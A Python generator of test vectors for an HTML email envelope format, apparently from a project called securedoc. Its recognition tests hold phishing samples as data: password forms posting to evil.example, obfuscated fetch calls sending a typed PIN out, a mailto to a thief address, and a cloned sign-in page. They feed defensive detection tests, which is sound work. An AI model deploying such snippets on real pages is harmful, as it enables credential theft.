#!/usr/bin/python3
# SPDX-FileCopyrightText: The securedoc authors
# SPDX-License-Identifier: Apache-2.0
"""Makes the test vectors of docs/envelope-format.md from that page alone: it shares no code with the programs.

generate.py          writes the vectors beside this file
generate.py --check  compares them with what it would write, and ends with 1 if they differ
"""

import base64
import gzip
import json
import sys
import zlib

from payloads import LONG, refused_list, refused_payload
from sealing import (CHUNK, HEAD, JOSE, LARGE, MARKER, OTHER_SECRET, SMALL, Envelope, b64url, block, claims_json,
                     flipped, header_element, issuer_key, lines, make_jws, noise, padme, payload_size, sealed_size)
from vector_files import HERE, VECTORS, parse, render, vector

REPLY_KEY = dict(zip(("kid", "x", "y"), ["reply-1", *issuer_key().split(" ")]))


# --- what a reader accepts ---

def accepted():
    def ok(name, comment, data, message=LARGE):
        vector(name, "success", comment, data, message)

    for size in (0, 1, 2, 504, 505, CHUNK - 9, CHUNK - 8, CHUNK - 7, CHUNK, 2 * CHUNK - 8):
        message = noise(size)
        ok(f"size_{size}", f"A message of {size} bytes", Envelope(message).file(), message)
    ok("small", "A short message in one block", Envelope(cuts=()).file(), SMALL)
    ok("blocks", "Three chunks in three blocks", Envelope(LARGE).file())
    ok("tiny_blocks", "Salt and commitment are cut by blocks", Envelope(SMALL, cuts=(1, 23, 24, 55, 57, 90)).file(),
       SMALL)
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = SMALL + b"All is well.\r\n" * 4000
    packed_text = packed.compress(text) + packed.flush()
    ok("deflate", "zip: DEF", Envelope(text, {"zip": "DEF"}, content=packed_text).file(), text)
    ok("deflate_empty", "An empty message, deflated", Envelope(b"", {"zip": "DEF"}, content=b"\x03\x00").file(), b"")
    ok("segments", "Three segments; blocks end elsewhere",
       Envelope(LONG, cuts=(49_000, 49_256, 100_000, 180_456, 180_457)).file(), LONG)
    ok("reply_claims", "Where replies go, and their key",
       Envelope(claims={"reply_to": [{"name": "Desk", "addr": "desk@example.org"}], "reply_key": REPLY_KEY}).file(), SMALL)
    surrounded()
    ok("re_signed", "The same claims, signed again: another JWS", Envelope(LARGE, jose={**JOSE, "x": 1}).file(), LARGE)
    for name, address in {"quoted": '"a b"@example.net', "brackets": '"<b>"@example.net', "shortest": "a@b",
                          "longest": "a" * 316 + "@b.c", "utf8": "ünal@bücher.example"}.items():
        ok(f"address_{name}", f"A recipient's address: {name}", Envelope(claims={"to": [{"addr": address}]}).file(), SMALL)
    for level in ("high", "none"):
        ok(f"level_{level}", f"level {level}", Envelope(claims={"level": level}).file(), SMALL)
    ok("cc_left_out", "cc is optional", Envelope(drop=["cc"]).file(), SMALL)
    ok("unknown_claim", "Unknown claims and members are ignored",
       Envelope(claims={"x": [{"y": [None, -5, True]}]}, jose={**JOSE, "x": 1}).file(), SMALL)
    ok("claims_with_space", "JSON white space between claims",
       Envelope(raw_claims=lambda text: json.dumps(json.loads(text), indent=2).encode()).file(), SMALL)
    for name, issuer in {"port": "https://keys.example.org:8443", "loopback": "http://127.0.0.1:8080",
                         "loopback6": "http://[::1]:8080", "localhost": "http://localhost",
                         "ipv4": "https://192.0.2.7", "idn": "https://xn--bcher-kva.example"}.items():
        ok(f"issuer_{name}", f"iss {issuer}", Envelope(claims={"iss": issuer}).file(), SMALL)
    for name, date in {"zulu": "2013-12-10T15:39:59Z", "fraction": "2013-12-10T15:39:59.123+01:00",
                       "leap_day": "2024-02-29T00:00:00Z", "leap_second": "2016-12-31T23:59:60Z"}.items():
        ok(f"date_{name}", f"date {date}", Envelope(claims={"date": date}).file(), SMALL)
    ok("recipients_1000", "The most recipients", Envelope(claims={"to": [{"addr": "a@b"}] * 1000}).file(), SMALL)

    envelope = Envelope(LARGE)
    whole = envelope.file()
    ok("crlf", "Lines ended by CRLF", whole.replace(b"\n", b"\r\n"))
    ok("cr", "Lines ended by CR alone", whole.replace(b"\n", b"\r"))
    ok("bom", "A UTF-8 byte order mark", b"\xef\xbb\xbf" + whole)
    ok("gzip", "gzip-ed", gzip.compress(whole, mtime=0))
    ok("gzip_trailing", "gzip-ed, with bytes behind", gzip.compress(whole, mtime=0) + b"\x00" * 100)
    ok("gzip_checksum", "gzip-ed, its checksum altered: the payload's own tags decide",
       flipped(gzip.compress(whole, mtime=0), -6))
    ok("no_marker", "The marker is not required", whole.replace(MARKER + b"\n", b""))
    ok("banner", "A banner behind the file", whole + b"<p>Scanned by <b>Mail Gate</b> &lt;3</p><!-- x -- > -->\n")
    ok("banner_before", "A banner before the file, with a comment that holds a header",
       b"<div>EXTERNAL</div><!-- " + envelope.header() + b" -->" + whole)
    ok("banner_between", "Elements between header and blocks",
       envelope.file(blocks=[b"<img src='x'><p>1 < 2</p>" + b for b in envelope.blocks()]))
    ok("nul_outside", "NULs outside of the parts", whole.replace(b"<p>Secure", b"<p>\x00Secure") + b"\x00\x00")
    upper = whole.replace(b"<script type=", b"<SCRIPT TYPE=").replace(b"</script>", b"</SCRIPT >")
    ok("upper_case", "Tags and attributes in upper case",
       upper.replace(b" id=", b" ID=").replace(b" class=", b" CLASS=").replace(b"text/plain", b"Text/Plain"))
    ok("single_quotes", "Single quotes", whole.replace(b'"securedoc-header"', b"'securedoc-header'").replace(
        b'"securedoc-payload"', b"'securedoc-payload'").replace(b'"application/jose"', b"'application/jose'"))
    ok("no_quotes", "No quotes", whole.replace(b'"securedoc-header"', b"securedoc-header").replace(
        b'"securedoc-payload"', b"securedoc-payload").replace(b'"text/plain"', b"text/plain"))
    ok("attribute_order", "Attributes in another order, others added, spaces in the tag", whole.replace(
        b'<script type="application/jose" id="securedoc-header">',
        b'<script\n data-x="a > b" id = "securedoc-header"\ttype = "application/jose" async >').replace(
        b'class="securedoc-payload"', b'class="x  securedoc-payload y" id=p'))
    text = envelope.blocks()
    ok("rewrapped", "Base64 re-wrapped to 60",
       envelope.file(blocks=[block(b"").replace(b"\n", b"\n" + lines(envelope.payload, 60), 1)]))
    ok("one_line", "Base64 on one line", envelope.file(blocks=[b.replace(b"\n", b"") for b in text]))
    ok("odd_lines", "Lines of 33: no line holds whole groups of four",
       envelope.file(blocks=[block(b"").replace(b"\n", b"\n" + lines(envelope.payload, 33), 1)]))
    ok("indented", "Every line indented and padded",
       envelope.file(header=envelope.header().replace(b"\n", b"\n\t  "),
                     blocks=[b.replace(b"\n", b"  \n    \t") for b in text]))
    jws = b"\n".join(envelope.jws[i:i + 76] for i in range(0, len(envelope.jws), 76))
    ok("jws_lines", "The JWS broken into lines", envelope.file(header=header_element(jws)))
    ok("list_lines", "The digest list indented, its tag changed", envelope.file(digests=envelope.list().replace(
        b"\n", b"\r\n\t ").replace(b'<script type="text/plain" id="securedoc-digests">',
                                     b"<SCRIPT ID = securedoc-digests x TYPE='Text/Plain'>")))
    ok("list_far", "Elements between header and list", envelope.file(digests=b"<p>x</p><!-- " + envelope.list() +
                                                                     b" -->" + b" " * 200_000 + envelope.list()))
    ok("doubled", "The whole file twice", whole + whole)
    ok("end_cut", "The file ends behind the last block", envelope.file(tail=b""))


def surrounded():
    """What others put around an envelope is told, and does not keep it from being opened."""
    def told(name, comment, data, signals, foreign=True):
        vector(name, "success", comment, data, SMALL, signals=signals, **({"foreign_parts": "yes"} if foreign else {}))

    whole = Envelope().file()
    form = b'<form action="https://evil.example/"><input type=password name=p></form>'
    told("page_removed", "A mail system took the page away", Envelope().file(page=b""), "page_missing", False)
    told("page_other", "A page that the claims do not know", Envelope().file(page=b"<script>alert(1)</script>\n"),
         "foreign_script page_missing")
    told("page_changed", "One byte of the page's script is another",
         Envelope().file(page=Envelope().page.replace(b"const", b"Const")), "foreign_script page_missing")
    told("form_before", "A form that asks for a password before the envelope", form + whole, "form_target password_field")
    told("form_behind", "A form that asks for a password behind the envelope", whole + form, "form_target password_field")
    told("form_between", "A form between list and payload", Envelope().file(page=Envelope().page + form),
         "form_target password_field")
    told("refresh_before", "A refresh that leads away",
         b'<meta http-equiv=REFRESH content="0; url=https://evil.example">' + whole, "redirect")
    told("frame_behind", "A frame of another host", whole + b"<iframe src=https://evil.example></iframe>", "frame_source")
    told("script_behind", "A script of another host", whole + b"<script src=https://evil.example/x.js></script>",
         "foreign_script")
    told("handler_before", "A picture whose error runs a script", b"<img src=x OnError=alert(1)>" + whole,
         "foreign_script")
    told("no_marker_told", "The marker is missing", whole.replace(MARKER, b""), "missing_marker", False)


# --- what a reader refuses before the payload ---

def refused_front():
    def bad(name, comment, data, expect="MalformedHeader"):
        vector(name, expect, comment, data)

    def claims(name, comment, expect="MalformedHeader", drop=(), **values):
        bad(name, comment, Envelope(claims=values, drop=drop).file(), expect)

    claims("version_2", "v is 2", "UnsupportedVersion", v=2)
    claims("version_text", "v is a text", v="1")
    claims("version_missing", "no v", drop=["v"])
    claims("version_2_other_claims", "Another version is told even if all else is strange", "UnsupportedVersion",
           v=2, iss=5, level=[], drop=["from", "enc"])
    claims("critical_claim", "crit among the claims", "UnsupportedVersion", crit=["x"])
    claims("encryption_unknown", "Unknown enc", "UnsupportedVersion", enc="C2SP-Cobblestone-512")
    claims("compression_unknown", "Unknown zip", "UnsupportedVersion", zip="ZSTD")
    claims("level_unknown", "Unknown level", "UnsupportedVersion", level="low")
    for name in ("iss", "jti", "iat", "org", "from", "to", "date", "subject", "reply", "reply_all", "forward",
                 "offline_lease", "payload_length", "digests", "page"):
        claims(f"missing_{name}", f"No {name}", drop=[name])
    for name, issuer in {
            "http": "http://keys.example.org", "slash": "https://keys.example.org/",
            "path": "https://keys.example.org/a", "upper": "https://Keys.example.org",
            "default_port": "https://keys.example.org:443", "port_zero": "https://keys.example.org:0",
            "port_large": "https://keys.example.org:65536", "port_empty": "https://keys.example.org:",
            "user": "https://user@keys.example.org", "query": "https://keys.example.org?x", "empty": "",
            "no_host": "https://", "space": "https://keys.example.org ", "unicode": "https://bücher.example",
            "digits": "https://1.2.3", "ipv4_zero": "https://192.0.02.7", "loopback_name":
            "http://127.0.0.1.example.org", "dot": "https://keys.example.org.", "hyphen": "https://-keys.example",
            "scheme": "ftp://keys.example.org", "ipv6": "https://[2001:db8::1]"}.items():
        claims(f"issuer_bad_{name}", f"iss {issuer!r}", iss=issuer)
    claims("id_short", "jti of 15 bytes", jti="AAECAwQFBgcICQoLDA0O")
    claims("id_stray_bits", "jti with stray bits", jti="AAECAwQFBgcICQoLDA0ODx")
    claims("id_padded", "jti with padding", jti="AAECAwQFBgcICQoLDA0ODw==")
    claims("iat_negative", "iat before 1970", iat=-1)
    claims("iat_fraction", "iat with a fraction", iat=1386689999.5)
    claims("iat_text", "iat as text", iat="1386689999")
    claims("lease_large", "offline_lease over 2^32 - 1", offline_lease=2**32)
    claims("reply_number", "reply as a number", reply=1)
    claims("from_text", "from as text", **{"from": "ana@example.org"})
    claims("from_no_address", "from without addr", **{"from": {"name": "Ana"}})
    claims("address_short", "An address of 2 bytes", to=[{"addr": "ab"}])
    claims("address_long", "An address of 321 bytes", to=[{"addr": "a" * 321}])
    claims("address_control", "A control character in an address", to=[{"addr": "a\u0085@example.net"}])
    claims("digests_short", "digests of 31 bytes", digests=b64url(bytes(31)).decode())
    claims("digests_padded", "digests with padding", digests=b64url(bytes(32)).decode() + "=")
    claims("digests_number", "digests is a number", digests=5)
    claims("page_short", "page of 31 bytes", page=b64url(bytes(31)).decode())
    claims("reply_to_empty", "reply_to names nobody", reply_to=[])
    claims("reply_to_text", "reply_to is a text", reply_to="desk@example.org")
    claims("reply_to_101", "One mailbox too many in reply_to", "LimitExceeded", reply_to=[{"addr": "a@b"}] * 101)
    claims("reply_key_text", "reply_key is a text", reply_key="x")
    claims("reply_key_no_kid", "reply_key without kid", reply_key={"x": REPLY_KEY["x"], "y": REPLY_KEY["y"]})
    claims("reply_key_empty_kid", "reply_key with an empty kid", reply_key={**REPLY_KEY, "kid": ""})
    claims("reply_key_short", "reply_key whose x is short", reply_key={**REPLY_KEY, "x": b64url(bytes(31)).decode()})
    claims("reply_key_no_point", "reply_key that is no point of the curve", reply_key={**REPLY_KEY, "y": REPLY_KEY["x"]})
    claims("no_recipient", "Neither to nor cc", to=[])
    claims("subject_newline", "A line feed in the subject", subject="a\nb")
    claims("subject_nul", "A NUL in the subject", subject="a\0b")
    claims("subject_c1", "A C1 control character in the subject", subject="a\u0085b")
    claims("zip_number", "zip is a number", zip=1)
    for name, date in {"rfc5322": "Tue, 10 Dec 2013 15:39:59 -0500", "no_zone": "2013-12-10T15:39:59",
                       "lower": "2013-12-10t15:39:59z", "day": "2013-02-29T00:00:00Z", "hour":
                       "2013-12-10T24:00:00Z", "empty": "", "offset": "2013-12-10T15:39:59+24:00",
                       "fraction": "2013-12-10T15:39:59.Z"}.items():
        claims(f"date_bad_{name}", f"date {date!r}", date=date)
    claims("payload_length_impossible", "A payload length that nothing sealed has", payload_length=56 + 16400)
    claims("payload_length_no_room", "A payload length without room for the content's length",
           payload_length=sealed_size(7))
    claims("payload_length_padding", "A payload length that Padmé does not give",
           payload_length=sealed_size(padme(40_000) + 1))
    claims("recipients_1001", "One recipient too many", "LimitExceeded", to=[{"addr": "a@b"}] * 1001)
    claims("message_9_gib", "A message over 8 GiB", "LimitExceeded", payload_length=payload_size(9 << 30))

    def raw(name, comment, text, expect="MalformedHeader"):
        bad(name, comment, Envelope(raw_claims=text).file(), expect)

    good = claims_json(Envelope().claims)
    raw("claims_duplicate", "A claim twice", good.replace(b'"v":1', b'"v":1,"subject":"x"'))
    raw("claims_not_utf8", "Claims that are not UTF-8", good.replace("ú".encode(), b"\xfa"))
    raw("claims_overlong_utf8", "An overlong UTF-8 form", good.replace(b"Your", b"\xc0\xafour"))
    raw("claims_surrogate", "A lone surrogate", good.replace(b"Your", b"\\ud800our"))
    raw("claims_trailing", "Something behind the object", good + b"x")
    raw("claims_cut", "JSON cut off", good[:-1])
    raw("claims_array", "An array instead of an object", b"[" + good + b"]")
    raw("claims_bom", "A byte order mark before the claims", b"\xef\xbb\xbf" + good)
    raw("claims_exponent", "A number with exponent", good.replace(b'"v":1', b'"v":1e0'))
    raw("claims_leading_zero", "A number with leading zero", good.replace(b'"v":1', b'"v":01'))
    raw("claims_large_number", "A number over 2^53 - 1", good.replace(b'"v":1', b'"v":1,"x":9007199254740992'))
    raw("claims_deep", "Nested nine deep", good.replace(b'"v":1', b'"v":1,"x":' + b"[" * 8 + b"]" * 8), "LimitExceeded")
    raw("claims_very_deep", "Nested ten thousand deep",
        good.replace(b'"v":1', b'"v":1,"x":' + b"[" * 10000 + b"]" * 10000), "LimitExceeded")
    raw("claims_tab_in_text", "A raw tab in a text", good.replace(b"Your ", b"Your\t"))
    raw("claims_empty", "No claims at all", b"")

    def jose(name, comment, header):
        bad(name, comment, Envelope(jose=header).file())

    for algorithm in ("none", "HS256", "RS256", "ES384", "es256"):
        jose(f"jose_alg_{algorithm.lower() if algorithm != 'es256' else 'lower'}", f"alg {algorithm}",
             {**JOSE, "alg": algorithm})
    jose("jose_no_alg", "No alg", {"typ": JOSE["typ"], "kid": "key-1"})
    jose("jose_crit", "crit in the JOSE header", {**JOSE, "crit": ["exp"], "exp": 1})
    jose("jose_b64", "b64 in the JOSE header", {**JOSE, "b64": False})
    jose("jose_typ", "Another typ: a JWS signed for something else", {**JOSE, "typ": "JWT"})
    jose("jose_no_kid", "No kid", {"alg": "ES256", "typ": JOSE["typ"]})
    jose("jose_kid_number", "kid is a number", {**JOSE, "kid": 1})

    envelope = Envelope()

    def header(name, comment, element, expect="MalformedHeader"):
        bad(name, comment, envelope.file(header=element), expect)

    parts = envelope.jws.split(b".")
    header("jws_two_parts", "Two parts", header_element(b".".join(parts[:2])))
    header("jws_four_parts", "Four parts", header_element(envelope.jws + b"."))
    header("jws_empty", "Nothing in the header element", header_element(b""))
    header("jws_padded", "Base64url with padding", header_element(envelope.jws + b"=="))
    header("jws_base64", "Plain base64 characters", header_element(b".".join(parts[:2]) + b"." + b"+/" * 43))
    header("jws_signature_short", "A signature of 63 bytes",
           header_element(b".".join(parts[:2]) + b"." + b64url(bytes(63))))
    header("jws_signature_empty", "No signature", header_element(b".".join(parts[:2]) + b"."))
    header("jws_nul", "A NUL in the JWS", header_element(envelope.jws[:40] + b"\0" + envelope.jws[40:]))
    header("header_type", "The header element has another type",
           envelope.header().replace(b"application/jose", b"text/plain"))
    header("header_element", "The header is no script",
           b'<div type="application/jose" id="securedoc-header">' + envelope.jws + b"</div>")
    bad("header_cut", "The file ends inside the header", (HEAD + envelope.header())[:-60])
    header("header_65_kib", "A JWS over 64 KiB", Envelope(claims={"subject": "x" * 50000}).header(), "LimitExceeded")
    header("header_spaces", "A JWS with 128 KiB of spaces", header_element(envelope.jws + b" " * (128 << 10)),
           "LimitExceeded")
    header("header_endless", "A header without end", header_element(b"A" * (2 << 20)), "LimitExceeded")
    bad("list_spaces", "A digest list with 512 KiB of spaces",
        envelope.file(digests=envelope.list().replace(b"\n", b"\n" + b" " * (512 << 10), 1)), "LimitExceeded")


# --- what a reader refuses at the signature ---

def refused_signature():
    def bad(name, comment, data, expect="SignatureInvalid"):
        vector(name, expect, comment, data, stage="verify")

    refused_list(bad)
    envelope = Envelope()
    signed = envelope.jws
    bad("signature_other_key", "Signed with another key of the same name", Envelope(secret=OTHER_SECRET).file())
    bad("signature_flipped", "One bit of the signature",
        envelope.file(header=header_element(signed[:-86] + b64url(flipped(base64.urlsafe_b64decode(
            signed[-86:] + b"=="), 10)))))
    other = make_jws(claims_json({**envelope.claims, "subject": "Our results"}))
    bad("signature_of_other_claims", "Claims changed behind the signature",
        envelope.file(header=header_element(b".".join([*other.split(b".")[:2], signed.split(b".")[2]]))))
    bad("signature_zero", "R and S are zero",
        envelope.file(header=header_element(b".".join([*signed.split(b".")[:2], b64url(bytes(64))]))))
    bad("signature_other_kid", "The issuer has no key of that name",
        Envelope(jose={**JOSE, "kid": "key-2"}).file())


# --- what is no envelope of ours ---

def page(title, body, script="", head=""):
    return (f"<!DOCTYPE html><html><head><title>{title}</title>{head}<script>{script}</script></head>"
            f"<body>{body}</body></html>").encode()


BLOB = base64.b64encode(noise(900)).decode()
RC4 = ("function r(k,s){for(var i=0,j=0,t=[];i<256;i++){t[i]=i}for(i=0;i<256;i++){j=(j+t[i]+k.charCodeAt(i%k.length))"
       "%256}return String.fromCharCode(s.charCodeAt(0)^t[j])}")


def led_elsewhere(kind, title, genuine, service):
    """Hosts decide: what a page names beside the incumbent's host is told, every one."""
    def fake(name, comment, body, signals, script=service, head=""):
        kind(f"fake_{name}", "Suspicious", comment, page(title, genuine + body, script, head), signals)

    evil = "https://evil.example/"
    fake("second_form", "A second form behind the genuine one", f"<form action={evil}a></form><form action={evil}b></form>",
         f"key_server form_target={evil}a form_target={evil}b")
    fake("button_target", "A button that sends the genuine form elsewhere",
         f'<form action="https://res.cisco.com/envelopeopener/x"><button formaction="{evil}">Open</button></form>',
         f"form_target={evil}")
    fake("user_before_host", "The incumbent's host is who signs in", '<form action="https://res.cisco.com:443@evil.example/x"></form>',
         f"form_target={evil}x")
    fake("host_within_host", "A host that begins like the incumbent's",
         '<form action="https://res.cisco.com.evil.example/envelopeopener/x"></form>',
         "form_target=https://res.cisco.com.evil.example/envelopeopener/x")
    fake("host_backslash", "Slashes that lean the other way", r'<form action="https:\\evil.example\@res.cisco.com/"></form>',
         f"form_target={evil}@res.cisco.com/")
    fake("host_escaped", "A host in percent signs, capitals and line ends",
         '<form action="HTTPS://%45vil.Exa&#10;mple:443/x"></form>', f"form_target={evil}x")
    fake("base", "A base that moves what is relative", '<form action="login.php"></form>',
         f"form_target={evil}deep/login.php", head=f'<base href="{evil}deep/page">')
    fake("host_without_slashes", "A scheme and no slashes", '<form action="https:evil.example/x"></form>',
         f"form_target={evil}x")
    fake("host_of_scheme_only", "The host without scheme", '<form action="//evil.example/x"></form>', "form_target=//evil.example/x")
    fake("no_tls", "The incumbent's host without TLS", '<form action="http://res.cisco.com/envelopeopener/x"></form>',
         "form_target=http://res.cisco.com/envelopeopener/x")
    fake("mailed", "A form that mails what was typed", '<form action="mailto:thief@evil.example"></form>',
         "form_target=mailto:thief@evil.example")
    fake("fetch", "A script that sends what was typed", "<input id=pin>", f"script_target={evil}p",
         service + f'fetch("{evil}p",{{method:"POST",body:pin.value}})')
    fake("fetch_disguised", "The same, taken apart", "<input id=pin>", f"script_target={evil}p",
         service + r"""window['fe'+'tch']('\x68ttps:' + "\/\/evil.ex" + 'ample\u002fp', {method: 'POST'})""")
    fake("xhr", "The same by XMLHttpRequest", "", f"script_target={evil}p",
         service + f"var u = '{evil}p'; /* ' */ var r = new XMLHttpRequest(); r.open ('POST', u)")
    fake("form_action_set", "A script that sets the form's target", "", f"script_target={evil}p",
         service + f"document.forms[0].action = '{evil}p'")
    fake("field_made", "A script that makes the field", "", "password_field",
         service + "var f = document.createElement('input'); f.setAttribute('type', 'password')")
    fake("field_written", "A script that writes the field in base64", "", f"password_field form_target={evil}",
         service + f"document.write(atob('{base64.b64encode(b'<form action=https://evil.example/><input type=password>').decode()}'))")
    fake("field_percent", "A script that writes the field in percent signs", "", f"password_field form_target={evil}", service +
         "document.write(unescape('%3Cform%20action%3Dhttps%3A//evil.example/%3E%3Cinput%20type%3Dpassword%3E'))")
    codes = ",".join(str(c) for c in b"<input type=password>")
    fake("field_numbers", "A script that writes the field in numbers", "", "password_field",
         service + f"document.write(String.fromCharCode({codes}))")
    fake("frame", "A frame of another host", f"<iframe src={evil}></iframe>", f"frame_source={evil}")
    fake("padded", "A form behind more tags than are looked at", "<br>" * 10000 + f"<form action={evil}></form>", "key_server")
    fake("script_elsewhere", "A program of another host", f"<script src={evil}x.js></script>", f"external_script={evil}x.js")
    kind("cisco_below_host", "CiscoRegistered", "A host below the incumbent's", page(
        title, genuine.replace("res.cisco.com:443", "eu.res.cisco.com"), service), "key_server")


def disguised(kind):
    """Fields and refreshes, as a browser finds them."""
    def fake(name, comment, body, signals, head=""):
        kind(f"fake_{name}", "Suspicious", comment, page("Registered envelope", body, "", head), signals)

    field = "<input type=password name=p>"
    fake("field_entity", "A type in character references", "<input type=pass&#119;ord>", "password_field imitates")
    fake("field_capitals", "Capitals, no quotes, slashes", "<INPUT/TYPE=PassWord >", "password_field")
    fake("field_behind_comment", "A comment that ends in --!>", f"<!-- --!>{field}<!-- -->", "password_field")
    fake("field_behind_short_comment", "A comment that ends at once", f"<!-->{field}<!-- -->", "password_field")
    fake("field_in_svg_title", "A title that is none", f"<svg><title>{field}</title></svg>", "password_field")
    fake("field_in_shadow", "A field in a template", f"<div><template shadowrootmode=open>{field}</template></div>", "password_field")
    fake("field_in_frame", "A field in a frame's own page", f'<iframe srcdoc="{field.replace("<", "&lt;")}"></iframe>', "password_field")
    fake("field_in_data", "A field in a frame of base64",
         f'<iframe src="data:text/html;base64,{base64.b64encode(field.encode()).decode()}"></iframe>', "password_field")
    fake("field_dotted", "A text field that shows dots", '<input type=text style="-webkit-text-security: disc">', "password_field")
    fake("field_named", "A text field that asks for a password", "<input placeholder='Your email password'>", "password_field")
    fake("refresh_without_url", "A refresh without the word url", "", "redirect=https://evil.example/",
         '<meta http-equiv=refresh content="0;https://evil.example/">')
    fake("refresh_quoted", "A refresh in quotes and capitals", "", "redirect=https://evil.example/",
         """<meta http-equiv=" REFRESH" content=" 0 , uRl = 'https://evil.example/'x">""")
    fake("refresh_loaded", "A handler that leads away", '<svg onload="top [\'loca\' + \'tion\'] = \'https://evil.example/\'"></svg>',
         "redirect=https://evil.example/")
    kind("fake_utf16", "Suspicious", "A fake in UTF-16", page("Secure message", field).decode().encode("utf-16"),
         "password_field imitates utf16")
    kind("fake_utf16_unmarked", "Suspicious", "A fake in UTF-16 that does not say so",
         page("Secure message", field).decode().encode("utf-16-be"), "password_field imitates")
    for name, body in (("xmp", f"<xmp>{field}</xmp>"), ("comment", f"<!-- {field} -->"), ("textarea", f"<textarea>{field}</textarea>"),
                       ("plaintext", f"<plaintext>{field}"), ("attribute", f"<p title='{field}'>x</p>"),
                       ("noembed", f"<noembed>{field}</noembed>")):
        kind(f"field_shown_as_text_{name}", "NotAnEnvelope", "A field that a browser does not make", page("News", body), "no_payload")
    kind("reload", "NotAnEnvelope", "A refresh that loads the page itself again", page("News", "", "", '<meta http-equiv=refresh content=30>'))
    kind("redirect_beside", "NotAnEnvelope", "A refresh to a page beside the file",
         page("Redirection", "", "", '<meta http-equiv=refresh content="0;URL=../x.html">'), "redirect=../x.html")
    kind("click_away", "NotAnEnvelope", "A button that leads away when it is pressed",
         page("News", """<button onclick="location.href='https://news.example/'">More</button>"""))


def recognised():
    def kind(name, expect, comment, data, signals=""):
        vector(name, expect, comment, data, **({"signals": signals} if signals else {}))

    form = '<form action="{}" method="post"><input type="hidden" name="p" value="{}"></form>'
    genuine = form.format("https://res.cisco.com:443/envelopeopener/decrypt_envelope.jsp", BLOB)
    service = 'var n="Cisco Registered Envelope Service";function d(x){return atob(x)}var to="bob@example.net";'
    title = "Secure Registered Envelope:Your results"
    kind("cisco_form", "CiscoRegistered", "The incumbent's page", page(title, genuine, service),
         "envelope_title key_server key_server_script")
    kind("cisco_other_host", "Suspicious", "The incumbent's page and path, at a host that nobody can tell from a thief's",
         page(title, form.format("https://mailsafe.example.com/websafe/open", BLOB)),
         "envelope_title form_target=https://mailsafe.example.com/websafe/open")
    kind("cisco_open_online", "CiscoRegistered", "A newer page, the payload in a script", page(
        title, '<select id="toSelect"><option>bob@example.net</option></select>'
        '<input type="submit" id="text_i18n.authframe.safr.button.openonline" onclick="openOnline(payload)">',
        f'{service}window.payload="{BLOB}";'), "open_online envelope_part")
    kind("cisco_arc4", "CiscoRegistered", "A page sealed with ARC4 has an RC4 loop", page(title, genuine, service + RC4),
         "rc4_loop")
    kind("cisco_truncated", "Suspicious", "The incumbent's title and nothing sealed", page(title, "<p>Open</p>"),
         "no_payload")
    kind("rc4_alone", "NotAnEnvelope", "An RC4 loop alone convicts nobody", page("Cipher demo", "<p>RC4</p>", RC4),
         "rc4_loop")
    clone = page(
        "Sign in - Office Email",
        '<form method="POST" action="/site" enctype="multipart/form-data"><span>Message Security</span>'
        '<span>Secure Email Service</span>Please re-enter your email and password to continue.'
        '<input name="email" type="email"><input id="passwordInput1" type="password" name="password">'
        "<span>Please enter your email password</span></form>", "",
        '<link href="https://cdn.jsdelivr.net/npm/bootstrap@5.0.2/dist/css/bootstrap.min.css" rel="stylesheet">'
        "<style>body{background-image:url(https://res.cisco.com/websafe/images/loginbg.gif)}</style>")
    kind("fake_sign_in", "Suspicious", "A clone of the sign-in frame", clone,
         "password_field form_target borrowed_part borrowed_asset mailbox_password sign_in_title public_asset no_payload")
    kind("fake_password_with_payload", "Suspicious", "The incumbent's page with a password field in the file",
         page(title, genuine + '<input type=password name=pw>', service), "password_field")
    kind("fake_target", "Suspicious", "The incumbent's page, sent to somebody else",
         page(title, form.format("https://evil.example/envelopeopener.php", BLOB)), "form_target")
    kind("fake_redirect", "Suspicious", "A page that only leads away",
         page("Secure message", "<p>Loading</p>", 'window.location.href = "https://evil.example/";'), "redirect")
    kind("fake_refresh", "Suspicious", "A refresh that leads away",
         page("Secure message", "", "", '<meta http-equiv="Refresh" content="0; URL=https://evil.example/">'), "redirect")
    kind("fake_unpacked", "Suspicious", "A script that unpacks a page of its own", page(
        "securedoc", "<p>Registered Envelope</p>", f'{RC4}document.write(r("k",atob("{BLOB}")))'), "rc4_loop")
    led_elsewhere(kind, title, genuine, service)
    disguised(kind)
    kind("fake_own_marker", "Suspicious", "Our marker on a page with a password field",
         MARKER + page("Secure message", "<input TYPE='Password'>"), "password_field no_header")
    kind("header_missing", "NotAnEnvelope", "An envelope whose header is gone", Envelope().file(header=b""), "no_header")
    kind("header_cut_before", "NotAnEnvelope", "The file ends before the header", HEAD, "no_header")
    kind("header_in_comment", "NotAnEnvelope", "A header in a comment is no header",
         Envelope().file(header=b"<!--" + Envelope().header() + b"-->"), "no_header")
    kind("header_in_script", "NotAnEnvelope", "A header in another script's text is no header", Envelope().file(
        header=b"<script>var x = '" + Envelope().header().replace(b"</script>", b"'") + b"</script>"), "no_header")
    kind("header_far", "NotAnEnvelope", "The header begins behind the first 1 MiB",
         b"<!--" + b" " * (1 << 20) + b"-->" + Envelope().file(), "no_header")
    kind("plain_html", "NotAnEnvelope", "Some page", page("News", "<form><input type=text></form><p>Hello</p>"))
    kind("plain_text", "NotAnEnvelope", "Text", b"Please find the registered envelope attached.\n")
    kind("empty", "NotAnEnvelope", "No bytes", b"")
    kind("nuls", "NotAnEnvelope", "Only NULs", bytes(5000))
    kind("utf16", "NotAnEnvelope", "An envelope in UTF-16", Envelope().file().decode().encode("utf-16"))
    kind("not_utf8", "NotAnEnvelope", "Bytes that are no text", noise(5000))
    kind("gzip_empty", "NotAnEnvelope", "gzip of nothing", gzip.compress(b"", mtime=0))
    kind("gzip_broken", "NotAnEnvelope", "Only the beginning of a gzip-ed file", b"\x1f\x8b\x08\x00\x00")
    kind("gzip_twice", "NotAnEnvelope", "gzip-ed twice",
         gzip.compress(gzip.compress(Envelope().file(), mtime=0), mtime=0))
    vector("gzip_bomb", "LimitExceeded", "A gzip-ed file that grows a thousandfold",
           gzip.compress(bytes(40_000_000), mtime=0))


def main():
    for group in (accepted, refused_front, refused_signature, refused_payload, recognised):
        group()
    present = {path.stem: path for path in HERE.glob("*.txt")}
    if "--check" in sys.argv:
        # Compared unpacked: another zlib packs differently and means the same.
        wrong = [name for name in VECTORS.keys() | present.keys()
                 if name not in present or name not in VECTORS or parse(present[name].read_bytes()) != VECTORS[name]]
        print(f"{len(VECTORS)} vectors, {len(wrong)} differ", *sorted(wrong))
        return 1 if wrong else 0
    for name in present.keys() - VECTORS.keys():
        present[name].unlink()
    for name, (fields, data) in VECTORS.items():
